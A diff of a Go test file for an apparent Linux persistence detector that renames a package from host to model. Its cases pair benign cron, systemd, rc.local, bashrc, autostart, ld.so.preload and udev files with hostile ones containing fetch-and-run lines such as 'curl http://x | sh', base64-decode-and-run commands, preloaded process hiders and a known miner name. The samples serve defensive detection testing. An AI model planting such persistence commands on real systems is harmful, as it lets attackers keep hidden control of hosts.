@@ -7,7 +7,7 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
-	"github.com/cryptojack-exporter/cryptojack_exporter/internal/host"
+	"github.com/cryptojack-exporter/cryptojack_exporter/internal/model"
 )
 
 // TestKinds gives each place something evil and its harmless twin.
@@ -15,79 +15,79 @@ func TestKinds(t *testing.T) {
 	t.Parallel()
 	for _, test := range []struct {
 		path, benign, evil string
-		want               host.PersistenceEntry // what evil gives; Path is filled in
+		want               model.PersistenceEntry // what evil gives; Path is filled in
 	}{
 		{
 			"/etc/crontab", "SHELL=/bin/sh\n# m h dom\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n",
 			"*/10 * * * * www-data curl http://x/a.sh | bash\n",
-			host.PersistenceEntry{Kind: host.PersistenceCrontab, Line: 1, User: "www-data", Command: "curl http://x/a.sh | bash", Reason: host.PersistenceFetchAndRun, Evidence: "curl http://x/a.sh | bash"},
+			model.PersistenceEntry{Kind: model.PersistenceCrontab, Line: 1, User: "www-data", Command: "curl http://x/a.sh | bash", Reason: model.PersistenceFetchAndRun, Evidence: "curl http://x/a.sh | bash"},
 		},
 		{
 			"/etc/cron.d/job", "@daily root /usr/bin/x > /tmp/log\n", "\n@reboot root /tmp/x\n",
-			host.PersistenceEntry{Kind: host.PersistenceCrontab, Line: 2, User: "root", Command: "/tmp/x", Programs: []string{"/tmp/x"}, Reason: host.PersistenceTempPath, Evidence: "/tmp/x"},
+			model.PersistenceEntry{Kind: model.PersistenceCrontab, Line: 2, User: "root", Command: "/tmp/x", Programs: []string{"/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
 		},
 		{
 			"/var/spool/cron/crontabs/eve", "0 3 * * 1-5 ~/bin/backup\n", "* * * * * ~/.x/../.y >/dev/null\n",
-			host.PersistenceEntry{Kind: host.PersistenceUserCrontab, Line: 1, User: "eve", Command: "~/.x/../.y >/dev/null", Programs: []string{"/home/eve/.y"}, Reason: host.PersistenceHiddenPath, Evidence: "~/.x/../.y"},
+			model.PersistenceEntry{Kind: model.PersistenceUserCrontab, Line: 1, User: "eve", Command: "~/.x/../.y >/dev/null", Programs: []string{"/home/eve/.y"}, Reason: model.PersistenceHiddenPath, Evidence: "~/.x/../.y"},
 		},
 		{
 			"/var/spool/cron/eve", "0 3 * * * /usr/bin/printf 100\\% | /usr/bin/cat\n", "* * * * * sh%curl http://x|sh%\n",
-			host.PersistenceEntry{Kind: host.PersistenceUserCrontab, Line: 1, User: "eve", Command: "sh%curl http://x|sh%", Reason: host.PersistenceFetchAndRun, Evidence: "curl http://x|sh"},
+			model.PersistenceEntry{Kind: model.PersistenceUserCrontab, Line: 1, User: "eve", Command: "sh%curl http://x|sh%", Reason: model.PersistenceFetchAndRun, Evidence: "curl http://x|sh"},
 		},
 		{
 			"/etc/cron.daily/job", "#!/bin/sh\nfind /tmp -delete\n", "#!/bin/sh\nset -e\nif true; then\n  nohup /dev/shm/x &\nfi\n",
-			host.PersistenceEntry{Kind: host.PersistenceCronScript, Line: 4, User: "root", Command: "nohup /dev/shm/x &", Programs: []string{"/dev/shm/x"}, Reason: host.PersistenceTempPath, Evidence: "/dev/shm/x"},
+			model.PersistenceEntry{Kind: model.PersistenceCronScript, Line: 4, User: "root", Command: "nohup /dev/shm/x &", Programs: []string{"/dev/shm/x"}, Reason: model.PersistenceTempPath, Evidence: "/dev/shm/x"},
 		},
 		{
 			"/etc/anacrontab", "PATH=/bin\n7 10 cron.weekly run-parts /etc/cron.weekly\n", "@monthly 15 job echo eA== | base64 -d | sh\n",
-			host.PersistenceEntry{Kind: host.PersistenceAnacron, Line: 1, User: "root", Command: "echo eA== | base64 -d | sh", Reason: host.PersistenceDecodeRun, Evidence: "echo eA== | base64 -d | sh"},
+			model.PersistenceEntry{Kind: model.PersistenceAnacron, Line: 1, User: "root", Command: "echo eA== | base64 -d | sh", Reason: model.PersistenceDecodeRun, Evidence: "echo eA== | base64 -d | sh"},
 		},
 		{
 			"/var/spool/cron/atjobs/a0001", "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail eve 0\numask 22\ncd /tmp || exit 1\n/usr/bin/true\n",
 			"#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail eve 0\nA=b; export A\n${SHELL:-/bin/sh} << 'marcin'\n/tmp/x\nmarcin\n",
-			host.PersistenceEntry{Kind: host.PersistenceAt, Line: 5, User: "eve", Command: "${SHELL:-/bin/sh} << 'marcin'", Programs: []string{"/bin/sh", "/tmp/x"}, Reason: host.PersistenceTempPath, Evidence: "/tmp/x"},
+			model.PersistenceEntry{Kind: model.PersistenceAt, Line: 5, User: "eve", Command: "${SHELL:-/bin/sh} << 'marcin'", Programs: []string{"/bin/sh", "/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
 		},
 		{
 			"/etc/systemd/system/a.service", "[Service]\nUser=app\nExecStartPre=-/bin/mkdir -p /tmp/app\nExecStart=/opt/app/.venv/bin/python -m app\n",
 			"[Unit]\n[Service]\nUser=app\nExecStartPre=/bin/true\nExecStart=-@/bin/bash name -c 'curl http://x | \\\n sh'\n",
-			host.PersistenceEntry{Kind: host.PersistenceSystemdService, User: "app", Unit: "a.service", Command: "/bin/bash -c 'curl http://x |   sh'", Programs: []string{"/bin/true", "/bin/bash"}, Reason: host.PersistenceFetchAndRun, Evidence: "curl http://x |   sh"},
+			model.PersistenceEntry{Kind: model.PersistenceSystemdService, User: "app", Unit: "a.service", Command: "/bin/bash -c 'curl http://x |   sh'", Programs: []string{"/bin/true", "/bin/bash"}, Reason: model.PersistenceFetchAndRun, Evidence: "curl http://x |   sh"},
 		},
 		{
 			"/etc/systemd/system/b.service.d/x.conf", "[Service]\nLimitNOFILE=1\n", "[Service]\nExecStartPost=+%T/x\n",
-			host.PersistenceEntry{Kind: host.PersistenceSystemdService, Unit: "b.service", Command: "/tmp/x", Programs: []string{"/tmp/x"}, Reason: host.PersistenceTempPath, Evidence: "/tmp/x"},
+			model.PersistenceEntry{Kind: model.PersistenceSystemdService, Unit: "b.service", Command: "/tmp/x", Programs: []string{"/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
 		},
 		{
 			"/home/eve/.config/systemd/user/c.service", "[Service]\nExecStart=%h/.local/bin/tool\n", "this line is broken\n[Service]\nso is this\nExecStart=%h/kdevtmpfsi\n",
-			host.PersistenceEntry{Kind: host.PersistenceSystemdService, User: "eve", Unit: "c.service", Command: "/home/eve/kdevtmpfsi", Programs: []string{"/home/eve/kdevtmpfsi"}, Reason: host.PersistenceKnownMiner, Evidence: "/home/eve/kdevtmpfsi"},
+			model.PersistenceEntry{Kind: model.PersistenceSystemdService, User: "eve", Unit: "c.service", Command: "/home/eve/kdevtmpfsi", Programs: []string{"/home/eve/kdevtmpfsi"}, Reason: model.PersistenceKnownMiner, Evidence: "/home/eve/kdevtmpfsi"},
 		},
 		{
 			"/etc/rc.local", "#!/bin/sh -e\nexit 0\n", "/tmp/x &\nexit 0\n",
-			host.PersistenceEntry{Kind: host.PersistenceInit, Line: 1, User: "root", Command: "/tmp/x &", Programs: []string{"/tmp/x"}, Reason: host.PersistenceTempPath, Evidence: "/tmp/x"},
+			model.PersistenceEntry{Kind: model.PersistenceInit, Line: 1, User: "root", Command: "/tmp/x &", Programs: []string{"/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
 		},
 		{
 			"/etc/inittab", "id:2:initdefault:\n1:2345:respawn:/sbin/getty 38400 tty1\n", "x:2345:respawn:/etc/.x\n",
-			host.PersistenceEntry{Kind: host.PersistenceInit, Line: 1, User: "root", Command: "/etc/.x", Programs: []string{"/etc/.x"}, Reason: host.PersistenceHiddenPath, Evidence: "/etc/.x"},
+			model.PersistenceEntry{Kind: model.PersistenceInit, Line: 1, User: "root", Command: "/etc/.x", Programs: []string{"/etc/.x"}, Reason: model.PersistenceHiddenPath, Evidence: "/etc/.x"},
 		},
 		{
 			"/home/eve/.bashrc", ". ~/.bash_aliases\n. \"$HOME/.cargo/env\"\n", "alias ls='ls --color'\n/var/tmp/x &\n",
-			host.PersistenceEntry{Kind: host.PersistenceProfile, Line: 2, User: "eve", Command: "/var/tmp/x &", Programs: []string{"/var/tmp/x"}, Reason: host.PersistenceTempPath, Evidence: "/var/tmp/x"},
+			model.PersistenceEntry{Kind: model.PersistenceProfile, Line: 2, User: "eve", Command: "/var/tmp/x &", Programs: []string{"/var/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/var/tmp/x"},
 		},
 		{
 			"/etc/profile.d/x.sh", "export PATH=$PATH:/opt/bin\n", "export LD_PRELOAD=/dev/shm/x.so\n",
-			host.PersistenceEntry{Kind: host.PersistenceProfile, Line: 1, Command: "export LD_PRELOAD=/dev/shm/x.so", Programs: []string{"/dev/shm/x.so"}, Reason: host.PersistenceTempPath, Evidence: "/dev/shm/x.so"},
+			model.PersistenceEntry{Kind: model.PersistenceProfile, Line: 1, Command: "export LD_PRELOAD=/dev/shm/x.so", Programs: []string{"/dev/shm/x.so"}, Reason: model.PersistenceTempPath, Evidence: "/dev/shm/x.so"},
 		},
 		{
 			"/home/eve/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/usr/bin/x %U\n", "[Desktop Entry]\nName=X\nExec=sh -c \"curl http://x | sh\"\n",
-			host.PersistenceEntry{Kind: host.PersistenceAutostart, Line: 3, User: "eve", Command: `sh -c "curl http://x | sh"`, Reason: host.PersistenceFetchAndRun, Evidence: "curl http://x | sh"},
+			model.PersistenceEntry{Kind: model.PersistenceAutostart, Line: 3, User: "eve", Command: `sh -c "curl http://x | sh"`, Reason: model.PersistenceFetchAndRun, Evidence: "curl http://x | sh"},
 		},
 		{
 			"/etc/ld.so.preload", "# nothing\n", "/usr/local/lib/libprocesshider.so\n",
-			host.PersistenceEntry{Kind: host.PersistencePreload, Line: 1, Command: "/usr/local/lib/libprocesshider.so", Programs: []string{"/usr/local/lib/libprocesshider.so"}, Reason: host.PersistencePreloaded, Evidence: "/usr/local/lib/libprocesshider.so"},
+			model.PersistenceEntry{Kind: model.PersistencePreload, Line: 1, Command: "/usr/local/lib/libprocesshider.so", Programs: []string{"/usr/local/lib/libprocesshider.so"}, Reason: model.PersistencePreloaded, Evidence: "/usr/local/lib/libprocesshider.so"},
 		},
 		{
 			"/etc/udev/rules.d/x.rules", "ACTION==\"add\", RUN+=\"/sbin/modprobe -b x\"\nKERNEL==\"sda\", MODE=\"0660\"\n",
 			"SUBSYSTEM==\"net\", \\\n  RUN+=\"/bin/sh -c '/tmp/x &'\"\n",
-			host.PersistenceEntry{Kind: host.PersistenceUdev, Line: 1, User: "root", Command: "/bin/sh -c '/tmp/x &'", Programs: []string{"/bin/sh", "/tmp/x"}, Reason: host.PersistenceTempPath, Evidence: "/tmp/x"},
+			model.PersistenceEntry{Kind: model.PersistenceUdev, Line: 1, User: "root", Command: "/bin/sh -c '/tmp/x &'", Programs: []string{"/bin/sh", "/tmp/x"}, Reason: model.PersistenceTempPath, Evidence: "/tmp/x"},
 		},
 	} {
 		t.Run(strings.Trim(test.path, "/"), func(t *testing.T) {
@@ -100,10 +100,10 @@ func TestKinds(t *testing.T) {
 			f.remove(test.path)
 			f.write(test.path, test.evil)
 			test.want.Path = test.path
-			if test.want.Kind == host.PersistenceCronScript || test.want.Kind == host.PersistenceInit {
+			if test.want.Kind == model.PersistenceCronScript || test.want.Kind == model.PersistenceInit {
 				f.must(os.Chmod(f.path(test.path), 0o755))
 			}
-			if diff := cmp.Diff([]host.PersistenceEntry{test.want}, suspicious(f.sample())); diff != "" {
+			if diff := cmp.Diff([]model.PersistenceEntry{test.want}, suspicious(f.sample())); diff != "" {
 				t.Error(diff)
 			}
 		})
@@ -134,7 +134,7 @@ func TestKeysAreNeverTold(t *testing.T) {
 	f := newFixture(t)
 	f.write("/home/eve/.ssh/authorized_keys", "# mine\nssh-ed25519 AAAAC3NzaSECRET eve@home\ncommand=\"x\",no-pty ssh-rsa AAAAB3NzSECRET\nSECRET\n")
 	s := f.sample()
-	if got := s.Counts[host.PersistenceAuthorizedKeys]; got != 3 {
+	if got := s.Counts[model.PersistenceAuthorizedKeys]; got != 3 {
 		t.Errorf("%d keys", got)
 	}
 	for _, r := range f.sensor.records {
@@ -150,7 +150,7 @@ func TestModulesAreCounted(t *testing.T) {
 	t.Parallel()
 	f := newFixture(t)
 	f.write("/etc/modules-load.d/x.conf", "# c\nloop\n\nmsr\n")
-	if got := f.sample().Counts[host.PersistenceModules]; got != 2 {
+	if got := f.sample().Counts[model.PersistenceModules]; got != 2 {
 		t.Errorf("%d modules", got)
 	}
 }
@@ -160,11 +160,11 @@ func TestScriptTellsEachLine(t *testing.T) {
 	f := newFixture(t)
 	f.write("/etc/rc.local", "#!/bin/sh\n/tmp/a\necho\n/tmp/b\n")
 	s := f.sample()
-	if got := len(suspicious(s)); got != 2 || s.Counts[host.PersistenceInit] != 1 {
-		t.Errorf("%d lines of %d files", got, s.Counts[host.PersistenceInit])
+	if got := len(suspicious(s)); got != 2 || s.Counts[model.PersistenceInit] != 1 {
+		t.Errorf("%d lines of %d files", got, s.Counts[model.PersistenceInit])
 	}
 	f.write("/etc/cron.daily/p", "#!/usr/bin/python3\nimport os\nos.system('curl http://x | sh')\nopen('/tmp/x')\n")
-	if got := suspicious(f.sample()); len(got) != 3 || got[0].Line != 3 || got[0].Reason != host.PersistenceFetchAndRun {
+	if got := suspicious(f.sample()); len(got) != 3 || got[0].Line != 3 || got[0].Reason != model.PersistenceFetchAndRun {
 		t.Errorf("%+v", got)
 	}
 }
